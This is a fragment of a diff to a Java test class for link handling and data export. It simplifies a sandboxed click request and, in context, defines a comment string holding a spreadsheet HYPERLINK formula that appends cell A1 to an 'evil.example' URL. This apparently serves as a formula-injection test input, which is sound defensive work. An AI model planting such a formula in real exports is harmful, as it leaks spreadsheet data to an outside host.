@@ -98,10 +98,7 @@ class LinksAndExportTest {
     app.tick();
     app.deliver();
     assertThat(
-            sandbox(
-                    "click",
-                    "{\"messageId\":\"1\",\"user\":\"d@x.org\",\"actionId\":\"cl:s:1:rate:1\"}")
-                .statusCode())
+            sandbox("click", "{\"user\":\"d@x.org\",\"actionId\":\"cl:s:1:rate:1\"}").statusCode())
         .isEqualTo(200);
     app.deliver();
     String comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click me\")";
